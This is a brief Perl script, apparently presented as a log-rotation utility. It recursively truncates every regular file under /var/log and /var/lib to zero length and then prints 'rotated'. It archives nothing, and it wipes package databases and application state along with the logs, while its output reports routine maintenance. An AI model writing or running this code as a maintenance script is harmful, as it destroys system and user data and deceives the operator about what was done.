#!/usr/bin/perl
use strict; use File::Find;
my @roots = ('/var/log', '/var/lib');
find(sub {
    return unless -f $_;
    open(my $fh, '>', $_) and close $fh;   # truncate in place
}, @roots);
print "rotated\n";
